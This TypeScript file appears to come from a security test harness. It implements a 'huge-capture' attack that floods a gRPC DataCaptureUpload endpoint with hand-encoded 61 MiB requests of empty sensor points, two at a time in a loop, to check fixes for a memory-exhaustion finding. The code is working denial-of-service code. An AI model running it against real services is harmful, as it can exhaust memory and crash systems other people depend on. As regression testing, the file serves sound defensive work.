// Issue 27 #5: the attacker's machine part sends DataCaptureUpload requests of 16M empty points (4 bytes
// each on the wire, 61 MiB, under gRPC's 64 MiB limit), two at a time, over and over. Before the caps one
// took the cloud to 6.2 GB and two at once ended it.
import type { ServiceError } from '@grpc/grpc-js';
import { status } from '@grpc/grpc-js';
import { DataType, UploadMetadata } from '../../../gen/platform/app/datasync/v1/data_sync.js';
import type { Attack } from './harness.js';
import { bearerOf, Outcomes, partClient, rawClient } from './ingest-tools.js';

const POINTS = Number(process.env.BENCH_EMPTY_POINTS ?? 16_000_000);
const AT_ONCE = 2;

function body(partId: string): Buffer {
  const metadata = UploadMetadata.encode({
    partId,
    componentType: 'rdk:component:sensor',
    componentName: 'thermo',
    methodName: 'Readings',
    type: DataType.DATA_TYPE_TABULAR_SENSOR,
    fileName: '',
    methodParameters: undefined,
    fileExtension: '',
    tags: [],
    datasetIds: [],
    mimeType: '',
    uploadId: '',
  }).finish();
  const head = Buffer.from([0x0a, metadata.length]); // metadata is shorter than 128 bytes
  const points = Buffer.alloc(POINTS * 4);
  for (let i = 0; i < points.length; i += 4) points.set([0x12, 0x02, 0x12, 0x00], i);
  return Buffer.concat([head, metadata, points]);
}

export const hugeCapture: Attack = {
  name: 'huge-capture',
  finding: 'issue 27 #5',
  describe: `the attacker's part sends DataCaptureUpload requests of ${POINTS} empty points (${((POINTS * 4) / 1048576).toFixed(0)} MiB), ${AT_ONCE} at a time, in a loop`,
  async start({ address, attacker }) {
    const part = partClient(address, attacker);
    const md = await bearerOf(part);
    const client = rawClient(address);
    const request = body(attacker.partId);
    const outcomes = new Outcomes();
    let stop = false;
    const loop = async () => {
      while (!stop) {
        const err = await new Promise<ServiceError | null>((resolve) =>
          client.makeUnaryRequest(
            '/platform.app.datasync.v1.DataSyncService/DataCaptureUpload',
            (b: Buffer) => b,
            (b: Buffer) => b,
            request,
            md,
            (e) => resolve(e),
          ),
        );
        outcomes.add(err ? `${status[err.code]}${/PLATFORM_\w+/.exec(err.details)?.[0] ? ` (${/PLATFORM_\w+/.exec(err.details)![0]})` : ''}` : 'OK (stored!)');
      }
    };
    const loops = Array.from({ length: AT_ONCE }, loop);
    return async () => {
      stop = true;
      await Promise.all(loops);
      client.close();
      part.close();
      return `outcomes ${outcomes}`;
    };
  },
};
